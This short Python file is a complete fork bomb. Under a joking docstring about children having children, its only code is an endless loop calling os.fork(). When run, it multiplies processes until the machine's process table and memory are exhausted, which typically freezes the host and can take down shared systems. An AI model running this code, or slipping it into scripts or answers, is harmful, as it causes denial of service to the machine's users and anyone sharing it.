"""Has children that have children."""

import os

while True:
    os.fork()
